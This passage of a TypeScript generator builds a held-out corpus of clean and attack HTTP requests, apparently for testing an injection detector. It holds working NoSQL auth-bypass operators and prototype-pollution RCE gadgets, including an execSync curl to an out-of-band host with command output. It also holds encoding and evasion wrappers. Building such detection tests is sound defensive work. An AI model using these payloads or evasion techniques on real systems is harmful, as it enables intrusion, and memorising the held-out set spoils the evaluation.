            .map((u) => `\\u${u.charCodeAt(0).toString(16).padStart(4, '0')}`)
            .join(''),
    )
    .join('') +
  '"';
const withRaw = (obj: Record<string, unknown>, key: string, raw: string): string => {
  const mark = `__RAW_${str(10)}__`;
  return JSON.stringify({ ...obj, [key]: mark }).replace(`"${mark}"`, raw);
};
const cookieSafe = (s: string): string => (/[;,\s"\\]/.test(s) ? enc(s) : s);
const EMBED = [
  (p: string) => `Hi team, the customer asked us to use ${p} as the reference, can you check? Thanks`,
  (p: string) => `Please note: ${p}`,
  (p: string) => `Parcel was late again. Name on the door is ${p} so the driver can find it.`,
  (p: string) => `Great service! ${p} will recommend to friends :)`,
  (p: string) => `Can someone look at this, it shows ${p} in the summary field since yesterday`,
];

const EMBED_URL = [
  (p: string) => `Floor plan and photos are here: ${p} - can you pull them into the listing?`,
  (p: string) => `Our status page moved, new link ${p} (preview should update automatically)`,
  (p: string) => `See ${p} for the signed copy, thanks!`,
];

type Build = { method: string; path: string; headers: Record<string, string>; body: string };

/** Wrap a string payload with a technique into a request against a target. */
function stringAttack(tech: string, payload: string, t: Target): Build {
  const c = anyClient();
  switch (tech) {
    case 'plain':
      return {
        method: t.m,
        path: t.p,
        headers: headers(c, JSON_CT),
        body: JSON.stringify({ ...t.base, [t.f]: payload }),
      };
    case 'nested':
      return {
        method: t.m,
        path: t.p,
        headers: headers(c, JSON_CT),
        body: JSON.stringify({ data: { attributes: { ...t.base, details: { [t.f]: payload } } } }),
      };
    case 'key':
      return {
        method: t.m,
        path: t.p,
        headers: headers(c, JSON_CT),
        body: JSON.stringify({ ...t.base, [t.f]: { [payload]: 'asc' } }),
      };
    case 'array':
      return {
        method: t.m,
        path: t.p,
        headers: headers(c, JSON_CT),
        body: JSON.stringify({ ...t.base, [`${t.f}s`]: ['ok', payload] }),
      };
    case 'unicode-escape':
      return {
        method: t.m,
        path: t.p,
        headers: headers(c, JSON_CT),
        body: withRaw(t.base, t.f, uEscape(payload)),
      };
    case 'json-in-string':
      return {
        method: t.m,
        path: t.p,
        headers: headers(c, JSON_CT),
        body: JSON.stringify({ ...t.base, payload: JSON.stringify({ [t.f]: payload, source: 'web' }) }),
      };
    case 'base64':
      return {
        method: t.m,
        path: t.p,
        headers: headers(c, JSON_CT),
        body: JSON.stringify({ ...t.base, [t.f]: b64(payload), encoding: 'base64' }),
      };
    case 'graphql-variable':
      return {
        method: 'POST',
        path: '/graphql',
        headers: headers(c, JSON_CT),
        body: JSON.stringify({ query: t.gq, variables: { v: payload } }),
      };
    case 'double-encoded':
      return {
        method: 'GET',
        path: `${t.q}?${t.qp}=${/%[0-9a-fA-F]{2}/.test(payload) ? enc(payload) : enc(enc(payload))}&page=1`,
        headers: headers(c),
        body: '',
      };
    case 'query-param':
      return {
        method: 'GET',
        path: `${t.q}?${t.qp}=${enc(payload)}${chance(0.5) ? '&limit=20' : ''}`,
        headers: headers(c),
        body: '',
      };
    case 'header':
      return {
        method: 'GET',
        path: `${t.q}?${t.qp}=1`,
        headers: headers(c, undefined, { [t.h]: payload.replace(/\n/g, '%0a') }),
        body: '',
      };
    case 'cookie': {
      const h = headers('browser');
      h.cookie = `sid=${str(32)}; ${pick(['tracking_pref', 'last_search', 'locale', 'dash_ctx'])}=${cookieSafe(payload)}`;
      delete h.authorization;
      return { method: 'GET', path: `${t.q}?${t.qp}=x`, headers: h, body: '' };
    }
    case 'form': {
      const o: Record<string, string> = {};
      for (const [k, v] of Object.entries(t.base))
        if (typeof v === 'string' || typeof v === 'number') o[k] = String(v);
      o[t.f] = payload;
      return {
        method: t.m,
        path: t.p,
        headers: headers('browser', 'application/x-www-form-urlencoded'),
        body: form(o),
      };
    }
    case 'multipart': {
      const m = multipart([
        { name: 'meta', value: JSON.stringify(t.base) },
        { name: t.f, value: payload },
        { name: 'file', filename: 'upload.txt', type: 'text/plain', content: 'see attached' },
      ]);
      return { method: t.m, path: t.p, headers: headers('browser', m.ct), body: m.body };
    }
    default: {
      const sentence = /^[a-z]+:/.test(payload) ? pick(EMBED_URL)(payload) : pick(EMBED)(payload);
      return {
        method: t.m,
        path: t.p,
        headers: headers(c, JSON_CT),
        body: JSON.stringify({ ...t.base, [t.prose]: sentence }),
      };
    }
  }
}

/** Path-traversal multipart puts the payload into the filename, as real upload exploits do. */
function ptMultipart(payload: string, t: Target): Build {
  const m = multipart([
    { name: 'envelope_id', value: uuid() },
    { name: 'file', filename: payload, type: 'application/pdf', content: '%PDF-1.4\n%%EOF' },
  ]);
  return {
    method: 'POST',
    path: t.p.replace(/\/[^/]+$/, '/upload'),
    headers: headers('browser', m.ct),
    body: m.body,
  };
}

// NoSQL: structured payloads (object form + bracket query-string form + JS string form)
interface NoSql {
  readonly obj: Record<string, unknown>;
  readonly qs: string;
}
const NOSQL_P: NoSql[] = [
  { obj: { $ne: null }, qs: '[$ne]=' },
  { obj: { $gt: '' }, qs: '[$gt]=' },
  { obj: { $regex: '^.*$' }, qs: '[$regex]=.*' },
  { obj: { $where: 'sleep(5000) || true' }, qs: '[$where]=sleep(5000)' },
  { obj: { $nin: ['__none__'] }, qs: '[$nin][]=__none__' },
  { obj: { $exists: true }, qs: '[$exists]=true' },
  { obj: { $regex: '^a', $options: 'i' }, qs: '[$regex]=^a&x[$options]=i' },
  {
    obj: {
      $expr: {
        $function: {
          body: 'function(){var d=new Date();while(new Date()-d<5000){};return true}',
          args: [],
          lang: 'js',
        },
      },
    },
    qs: '[$expr][$function][body]=function(){return true}',
  },
  { obj: { $or: [{}, { a: 'a' }] }, qs: '[$or][0][a][$ne]=1' },
  { obj: { $in: ['admin', 'root', 'superuser'] }, qs: '[$in][]=admin' },
  {
    obj: { $where: "this.password.match(/^a.*/) || this.role == 'admin'" },
    qs: '[$where]=this.role%3D%3D%27admin%27',
  },
  { obj: { $lt: '~' }, qs: '[$lt]=~' },
];
const NOSQL_T = [
  {
    p: '/api/v1/auth/login',
    f: 'password',
    base: { email: 'ops@acme-logistics.com' },
    q: '/api/v1/auth/login',
    qp: 'password',
  },
  {
    p: '/api/listings/find',
    f: 'agent_id',
    base: { status: 'available' },
    q: '/api/listings',
    qp: 'agent_id',
  },
  { p: '/v1/tickets/lookup', f: 'barcode', base: { event_id: 'evt_9pQm2' }, q: '/v1/tickets', qp: 'barcode' },
  {
    p: '/api/v1/accounts/find',
    f: 'owner_id',
    base: { currency: 'GBP' },
    q: '/api/v1/accounts',
    qp: 'owner_id',
  },
  {
    p: '/api/v1/envelopes/find',
    f: 'access_code',
    base: { envelope_id: 'env_7Qa' },
    q: '/api/v1/envelopes/verify',
    qp: 'access_code',
  },
  { p: '/api/notebooks/find', f: 'owner', base: { shared: true }, q: '/api/notebooks', qp: 'owner' },
  {
    p: '/api/v1/drivers/find',
    f: 'pin',
    base: { depot: 'park-royal' },
    q: '/api/v1/drivers/verify',
    qp: 'pin',
  },
];
function nosqlAttack(tech: string, pl: NoSql, t: (typeof NOSQL_T)[number]): Build {
  const c = anyClient();
  const body = (o: unknown): Build => ({
    method: 'POST',
    path: t.p,
    headers: headers(c, JSON_CT),
    body: JSON.stringify(o),
  });
  switch (tech) {
    case 'plain':
      return body({ ...t.base, [t.f]: pl.obj });
    case 'nested':
      return body({ filter: { and: [{ ...t.base }, { [t.f]: pl.obj }] } });
    case 'key':
      return body({ ...t.base, ...pl.obj });
    case 'array':
      return body({ ...t.base, [`${t.f}s`]: [pl.obj] });
    case 'unicode-escape':
      return {
        method: 'POST',
        path: t.p,
        headers: headers(c, JSON_CT),
        body: JSON.stringify({ ...t.base, [t.f]: pl.obj }).replace(
          /"\$(\w+)"/g,
          (_m, k: string) => `"\\u0024${k}"`,
        ),
      };
    case 'json-in-string':
      return body({ ...t.base, filter: JSON.stringify({ [t.f]: pl.obj }) });
    case 'base64':
      return body({ ...t.base, cursor: b64(JSON.stringify({ [t.f]: pl.obj })) });
    case 'graphql-variable':
      return {
        method: 'POST',
        path: '/graphql',
        headers: headers(c, JSON_CT),
        body: JSON.stringify({
          query: 'query Find($where: JSON!) { records(where: $where) { id } }',
          variables: { where: { ...t.base, [t.f]: pl.obj } },
        }),
      };
    case 'double-encoded':
      return {
        method: 'GET',
        path: `${t.q}?${t.f}${enc(pl.qs.replace(/=.*$/, '')).replace(/%/g, '%25')}=${pl.qs.replace(/^[^=]*=/, '')}`,
        headers: headers(c),
        body: '',
      };
    case 'query-param':
      return { method: 'GET', path: `${t.q}?${t.qp}${pl.qs}`, headers: headers(c), body: '' };
    case 'header':
      return {
        method: 'GET',
        path: t.q,
        headers: headers(c, undefined, { 'x-filter': JSON.stringify({ [t.f]: pl.obj }) }),
        body: '',
      };
    case 'cookie': {
      const h = headers('browser');
      h.cookie = `sid=${str(32)}; ${t.f}=${enc(`j:${JSON.stringify(pl.obj)}`)}`;
      return { method: 'GET', path: t.q, headers: h, body: '' };
    }
    case 'form':
      return {
        method: 'POST',
        path: t.p,
        headers: headers('browser', 'application/x-www-form-urlencoded'),
        body: `${Object.entries(t.base)
          .map(([k, v]) => `${k}=${enc(String(v))}`)
          .join('&')}&${t.f}${pl.qs}`,
      };
    default: {
      const m = multipart([{ name: 'query', value: JSON.stringify({ ...t.base, [t.f]: pl.obj }) }]);
      return { method: 'POST', path: t.p, headers: headers('sdk', m.ct), body: m.body };
    }
  }
}

// Prototype pollution
const PP_P: Array<{ obj: Record<string, unknown>; qs: string; ptr: string; val: unknown }> = [
  { obj: { isAdmin: true }, qs: '[isAdmin]=true', ptr: 'isAdmin', val: true },
  { obj: { role: 'admin' }, qs: '[role]=admin', ptr: 'role', val: 'admin' },
  {
    obj: {
      shell: '/proc/self/exe',
      argv0: "console.log(require('child_process').execSync('id').toString())//",
      NODE_OPTIONS: '--require /proc/self/cmdline',
    },
    qs: '[NODE_OPTIONS]=--require%20/proc/self/environ',
    ptr: 'NODE_OPTIONS',
    val: '--require /proc/self/environ',
  },
  {
    obj: {
      outputFunctionName:
        "x;process.mainModule.require('child_process').execSync('curl http://pp.oast.fun/$(id)');s",
    },
    qs: "[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
    ptr: 'outputFunctionName',
    val: "_tmp1;global.process.mainModule.require('child_process').exec('id');var __tmp2",
  },
  {
    obj: { execArgv: ["--eval=require('child_process').execSync('touch /tmp/pwned')"] },
    qs: "[execArgv][]=--eval%3Drequire('child_process').execSync('id')",
    ptr: 'execArgv',
    val: ['--eval=process.exit()'],
  },
  { obj: { allowedHosts: ['*'], debug: true }, qs: '[debug]=true', ptr: 'debug', val: true },
  {
    obj: { permissions: ['*'], scopes: 'admin:all' },
    qs: '[scopes]=admin:all',
    ptr: 'scopes',
    val: 'admin:all',
  },
  {
    obj: { sourceURL: '\u2028\u2029\nglobal.process.mainModule.require("child_process").execSync("id")' },
    qs: '[sourceURL]=%0Aprocess.exit(1)',
    ptr: 'sourceURL',
    val: '\nreturn process',
  },
  { obj: { status: 500, body: 'pwned' }, qs: '[status]=510', ptr: 'status', val: 510 },
  { obj: { client: 'pg', toString: 'x' }, qs: '[toString]=x', ptr: 'toString', val: 'x' },
];
const PP_T = [
  { p: '/api/v1/profile/preferences', m: 'PUT', wrap: 'preferences', q: '/api/v1/profile' },
  { p: '/api/dashboards/db', m: 'POST', wrap: 'dashboard', q: '/api/dashboards' },
  { p: '/api/listings/481220', m: 'PATCH', wrap: 'listing', q: '/api/listings/search' },
  { p: '/v1/events/evt_Zp01/settings', m: 'PUT', wrap: 'settings', q: '/v1/events/search' },
  { p: '/api/notebooks/settings', m: 'PUT', wrap: 'metadata', q: '/api/notebooks' },
  { p: '/api/v1/fleet/rules', m: 'POST', wrap: 'rule', q: '/api/v1/fleet/rules' },
  { p: '/api/v1/envelopes/env_5Tq/custom-fields', m: 'PUT', wrap: 'customFields', q: '/api/v1/envelopes' },
];
function ppAttack(tech: string, pl: (typeof PP_P)[number], t: (typeof PP_T)[number]): Build {
  const c = anyClient();
  const raw = (s: string, ct = JSON_CT): Build => ({
    method: t.m,
    path: t.p,
    headers: headers(c, ct),
    body: s,
  });
  const inner = JSON.stringify(pl.obj);
  switch (tech) {
    case 'plain':
      return raw(`{"__proto__":${inner}}`);
    case 'nested':
      return raw(`{"${t.wrap}":{"theme":"dark","__proto__":${inner}}}`);
    case 'key':
      return raw(`{"${t.wrap}":{"constructor":{"prototype":${inner}}}}`);
    case 'array':
      return raw(`{"${t.wrap}":[{"name":"a"},{"__proto__":${inner}}]}`);
    case 'unicode-escape':
      return raw(`{"${t.wrap}":{"\\u005f\\u005fproto\\u005f\\u005f":${inner}}}`);
    case 'json-in-string':
      return raw(JSON.stringify({ [t.wrap]: `{"__proto__":${inner}}` }));
    case 'base64':
      return raw(JSON.stringify({ [t.wrap]: b64(`{"__proto__":${inner}}`), encoding: 'base64' }));
    case 'graphql-variable':
      return {
        method: 'POST',
        path: '/graphql',
        headers: headers(c, JSON_CT),
        body: `{"query":"mutation S($input: JSON!) { updateSettings(input: $input) { ok } }","variables":{"input":{"__proto__":${inner}}}}`,
      };
    case 'double-encoded':
      return {
        method: 'GET',
        path: `${t.q}?__proto__${enc(pl.qs.replace(/=.*$/, '')).replace(/%/g, '%25')}=${pl.qs.replace(/^[^=]*=/, '')}`,
        headers: headers(c),
        body: '',
      };
    case 'query-param':
      return {
        method: 'GET',
        path: `${t.q}?${pick(['__proto__', 'constructor[prototype]'])}${pl.qs}`,
        headers: headers(c),
        body: '',
      };
    case 'cookie': {
      const h = headers('browser');
      h.cookie = `sid=${str(32)}; prefs=${enc(`j:{"__proto__":${inner}}`)}`;
      return { method: 'GET', path: t.q, headers: h, body: '' };
    }
    case 'form':
      return raw(`${t.wrap}[theme]=dark&${t.wrap}[__proto__]${pl.qs}`, 'application/x-www-form-urlencoded');
    case 'multipart': {
      const m = multipart([
        {
          name: `__proto__${pl.qs.replace(/=.*$/, '')}`,
          value: decodeURIComponent(pl.qs.replace(/^[^=]*=/, '')) || 'true',
        },
        { name: 'title', value: 'Q4 review' },
      ]);
      return raw(m.body, m.ct);
    }
    case 'json-patch':
      return raw(
        JSON.stringify([{ op: 'add', path: `/__proto__/${pl.ptr}`, value: pl.val }]),
        'application/json-patch+json',
      );
    default:
      return raw(
        `{"${t.wrap}":{"constructor":{"prototype":${inner}}},"__proto__":${inner}}`,
        'application/merge-patch+json',
      );
  }
}

const ALL_TECH = [
  'plain',
  'nested',
  'key',
  'array',
  'unicode-escape',
  'json-in-string',
  'base64',
  'graphql-variable',
  'double-encoded',
  'query-param',
  'header',
  'cookie',
  'form',
  'multipart',
  'embedded',
];
const without = (...xs: string[]): string[] => ALL_TECH.filter((t) => !xs.includes(t));

interface Family {
  readonly family: string;
  readonly n: number;
  readonly techs: string[];
  readonly make: (tech: string, i: number) => Build;
}
const stringFamily = (
  family: string,
  n: number,
  techs: string[],
  payloads: string[],
  targets: Target[],
): Family => ({
  family,
  n,
  techs,
  make: (tech, i) => {
    const p = payloads[(i * 7 + int(0, 3)) % payloads.length] as string;
    const t = targets[(i + int(0, targets.length - 1)) % targets.length] as Target;
    if (family === 'path-traversal' && tech === 'multipart') return ptMultipart(p, t);
    return stringAttack(tech, p, t);
  },
});

const FAMILIES: Family[] = [
  stringFamily('sql', 34, ALL_TECH, SQL_P, SQL_T),
  {
    family: 'nosql',
    n: 33,
    techs: without('embedded', 'header').concat(['plain', 'query-param']),
    make: (tech, i) =>
      nosqlAttack(
        tech,
        NOSQL_P[(i * 5 + int(0, 2)) % NOSQL_P.length] as NoSql,
        NOSQL_T[(i + int(0, 6)) % NOSQL_T.length] as (typeof NOSQL_T)[number],
      ),
  },
  stringFamily('template', 33, without('key'), TPL_P, TPL_T),
  stringFamily('command', 33, without('key'), CMD_P, CMD_T),
  stringFamily('path-traversal', 33, without('key', 'embedded'), PT_P, PT_T),
  stringFamily('ssrf', 34, without('key'), SSRF_P, SSRF_T),
  {
    family: 'prototype-pollution',
    n: 33,
    techs: [
      'plain',
      'nested',
      'key',
      'array',
      'unicode-escape',
      'json-in-string',
      'base64',
      'graphql-variable',
      'double-encoded',
      'query-param',
      'cookie',
      'form',
      'multipart',
      'json-patch',
      'merge-patch',
    ],
    make: (tech, i) =>
      ppAttack(
        tech,
        PP_P[(i * 3 + int(0, 2)) % PP_P.length] as (typeof PP_P)[number],
        PP_T[(i + int(0, 6)) % PP_T.length] as (typeof PP_T)[number],
      ),
  },
  stringFamily('log4shell', 34, ALL_TECH, L4J_P, L4J_T),
  stringFamily('xss', 34, ALL_TECH, XSS_P, XSS_T),
];

/** Techniques recorded in the corpus must come from the shared vocabulary; PP's patch forms count as "key". */
const techLabel = (t: string): string => (t === 'json-patch' || t === 'merge-patch' ? 'key' : t);

function buildAttacks(): CorpusRequest[] {
  const out: CorpusRequest[] = [];
  const seen = new Set<string>();
  for (const fam of FAMILIES) {
    for (let i = 0; i < fam.n; i++) {
      const tech = fam.techs[i % fam.techs.length] as string;
      let r = fam.make(tech, i);
      for (let k = 1; k < 8 && seen.has(r.method + r.path + r.body); k++) r = fam.make(tech, i + k);
      seen.add(r.method + r.path + r.body);
      out.push({
        id: `h12a${out.length + 1}`,
        kind: 'attack',
        family: fam.family,
        technique: techLabel(tech),
        method: r.method,
        path: r.path,
        headers: r.headers,
        body: r.body,
      });
    }
  }
  return out;
}

/** Held-out corpus #12 (blind): clean and attack requests. */
export const heldout12: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean: buildClean(),
  attacks: buildAttacks(),
};

/** Body fields an operator would declare as rich-text HTML or source code for these APIs. */
export const HELDOUT12_EXCLUDE_FIELDS: string[] = [
  'body.listing.description_html',
  'body.event.description_html',
  'body.template.html',
  'body.notice.body_html',
  'body.announcement.html',
  'body.article.body_html',
  'body.cell.source',
  'body.snippet.source',
  'body.rule.expr',
  'body.query.text',
  'body.pipeline.config',
];

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout12.json'), JSON.stringify(heldout12.clean, null, 2) + '\n');
  writeFileSync(join(dir, 'attacks-heldout12.json'), JSON.stringify(heldout12.attacks, null, 2) + '\n');
  console.log(`heldout12: clean=${heldout12.clean.length} attacks=${heldout12.attacks.length}`);
}
